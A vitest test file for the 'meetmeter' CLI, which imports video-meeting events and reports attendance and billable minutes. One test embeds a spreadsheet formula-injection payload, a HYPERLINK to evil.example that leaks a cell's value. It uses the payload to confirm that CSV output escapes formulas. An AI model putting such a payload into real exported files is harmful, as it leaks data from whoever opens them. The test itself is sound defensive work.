/** `meetmeter report` as a user runs it: figures straight from a store filled by `meetmeter import`. */
import { execFileSync } from "node:child_process";
import { existsSync, rmSync, writeFileSync } from "node:fs";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { clientData, wherebyEvent } from "../helpers/events.js";
import { tempDir } from "../helpers/stores.js";
import { runCli } from "../helpers/cli.js";

const SESSION = "rs-report";

function event(id: string, type: string, createdAt: string, client?: [string, string, string, number, string]) {
  const data: Record<string, unknown> = { roomName: "/algebra-1", meetingId: "42", roomSessionId: SESSION, subdomain: "school" };
  if (client) {
    const [participantId, displayName, roleName, numClients, externalId] = client;
    Object.assign(data, clientData(participantId, displayName, roleName, numClients, { externalId }));
  }
  return wherebyEvent(id, type, createdAt, data);
}

// Teacher 09:00–09:30 (1800 s), Ada 09:01–09:21 (1200 s); the session runs 09:01 to 09:21 (its count fell below 2).
const EVENTS = [
  event("rep-1", "room.client.joined", "2026-03-02T09:00:00.000Z", ["p-t", "Teacher", "host", 1, "teacher-1"]),
  event("rep-2", "room.client.joined", "2026-03-02T09:01:00.000Z", ["p-a", "Ada", "visitor", 2, "student-a"]),
  event("rep-3", "room.session.started", "2026-03-02T09:01:00.000Z"),
  event("rep-4", "room.client.left", "2026-03-02T09:21:00.000Z", ["p-a", "Ada", "visitor", 1, "student-a"]),
  event("rep-5", "room.client.left", "2026-03-02T09:30:00.000Z", ["p-t", "Teacher", "host", 0, "teacher-1"]),
  event("rep-6", "room.session.ended", "2026-03-02T09:31:00.000Z"),
];

describe("meetmeter report", () => {
  const folder = tempDir();
  const database = ["--database", `sqlite:${join(folder, "meetmeter.db")}`];

  beforeAll(async () => {
    const file = join(folder, "events.jsonl");
    writeFileSync(file, EVENTS.map((e) => JSON.stringify(e)).join("\n") + "\n");
    const imported = await runCli(["import", file, ...database]);
    expect(imported.code, imported.stderr).toBe(0);
  });
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  it("lists sessions, and one session's attendance as CSV", async () => {
    const sessions = await runCli(["report", "sessions", "--format", "json", ...database]);
    expect(sessions.code, sessions.stderr).toBe(0);
    expect(JSON.parse(sessions.stdout)).toEqual([
      expect.objectContaining({ id: SESSION, durationSeconds: 1200, participantSeconds: 3000, billableParticipantMinutes: 50 }),
    ]);
    const csv = await runCli(["report", "session", SESSION, "--format", "csv", ...database]);
    expect(csv.code, csv.stderr).toBe(0);
    const lines = csv.stdout.trim().split(/\r?\n/);
    expect(lines).toHaveLength(3);
    expect(lines[1]).toContain("external:teacher-1");
  });

  it("reads --from and --to as the API does: a date is its midnight UTC, a time needs its zone", async () => {
    const usage = await runCli(["report", "usage", "--from", "2026-03-02", "--to", "2026-03-03", "--format", "json", ...database]);
    expect(usage.code, usage.stderr).toBe(0);
    expect(JSON.parse(usage.stdout).total).toEqual({ sessions: 1, participantSeconds: 3000, billableParticipantMinutes: 50 });
    const zoned = await runCli(["report", "sessions", "--from", "2026-03-02T10:01:00.001+01:00", "--format", "json", ...database]);
    expect(JSON.parse(zoned.stdout)).toEqual([]);
    const later = await runCli(["report", "sessions", "--to", "2026-03-02T10:02:00+01:00", "--format", "json", ...database]);
    expect(JSON.parse(later.stdout)).toHaveLength(1);
    for (const bad of ["2026-03-02T10:00", "2026-02-30", "yesterday"]) {
      const refused = await runCli(["report", "sessions", "--from", bad, ...database]);
      expect(refused.code, bad).toBe(2);
      expect(refused.stderr, bad).toContain("--from must be a date or an ISO 8601 time with its zone");
    }
  });

  it("guards every CSV it prints against spreadsheet formulas, as the API's CSV does", async () => {
    const room = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")';
    const hostile = join(folder, "hostile.db");
    const file = join(folder, "hostile.jsonl");
    const lines = EVENTS.map((e) => ({ ...e, id: `hostile-${e.id}`, data: { ...e.data, roomName: room, roomSessionId: "rs-hostile" } }));
    writeFileSync(file, lines.map((e) => JSON.stringify(e)).join("\n") + "\n");
    const imported = await runCli(["import", file, "--database", `sqlite:${hostile}`]);
    expect(imported.code, imported.stderr).toBe(0);
    for (const args of [["report", "sessions"], ["report", "session", "rs-hostile"]]) {
      const csv = await runCli([...args, "--format", "csv", "--database", `sqlite:${hostile}`]);
      expect(csv.code, csv.stderr).toBe(0);
      // The room's cell, quoted for its quotes and comma, begins with the apostrophe; no cell begins with the formula.
      expect(csv.stdout, args.join(" ")).toContain(`"'${room.replaceAll('"', '""')}"`);
      expect(csv.stdout, args.join(" ")).not.toMatch(/(^|,)"?=/m);
    }
  });

  it("refuses a --from at or after --to, as the API does", async () => {
    for (const command of ["sessions", "usage"]) {
      const refused = await runCli(["report", command, "--from", "2026-03-03", "--to", "2026-03-02", ...database]);
      expect(refused.code, command).toBe(2);
      expect(refused.stderr, command).toContain("--from must be before --to");
    }
  });

  it("fails on a SQLite file that is not there, rather than reporting an empty database it made", async () => {
    const typo = join(folder, "typo", "meetmeter.db");
    for (const args of [["report", "sessions"], ["report", "usage"], ["export"], ["rebuild"]]) {
      const result = await runCli([...args, "--database", `sqlite:${typo}`]);
      expect(result.code, args.join(" ")).toBe(1);
      expect(result.stderr).toContain(`no database at ${typo}`);
    }
    expect(existsSync(typo)).toBe(false);
  });

  it("imports nothing from a file that is not there: exit 2 naming it, and no database made", async () => {
    const fresh = join(folder, "fresh.db");
    for (const input of [join(folder, "no-such.jsonl"), folder]) {
      const result = await runCli(["import", input, "--database", `sqlite:${fresh}`]);
      expect(result.code, input).toBe(2);
      expect(result.stderr).toMatch(new RegExp(`^meetmeter: Cannot read the file to import "${input}": `));
      expect(result.stderr.trim().split("\n")).toHaveLength(1);
    }
    expect(existsSync(fresh)).toBe(false);
  });

  it("imports from a named pipe, which has no size beforehand", async () => {
    const fifo = join(folder, "events.fifo");
    execFileSync("mkfifo", [fifo]);
    const lines = EVENTS.map((e) => JSON.stringify({ ...e, id: `piped-${e.id}` })).join("\n") + "\n";
    const importing = runCli(["import", fifo, "--database", `sqlite:${join(folder, "piped.db")}`]);
    await writeFile(fifo, lines);
    const result = await importing;
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toContain(`Imported ${EVENTS.length} events`);
  });

  it("exports nothing to a file it cannot write: exit 2 naming it", async () => {
    for (const out of [join(folder, "no-such-folder", "events.jsonl"), folder]) {
      const result = await runCli(["export", "--out", out, ...database]);
      expect(result.code, out).toBe(2);
      expect(result.stderr).toMatch(new RegExp(`^meetmeter: Cannot write --out "${out}": `));
      expect(result.stderr.trim().split("\n")).toHaveLength(1);
    }
  });
});
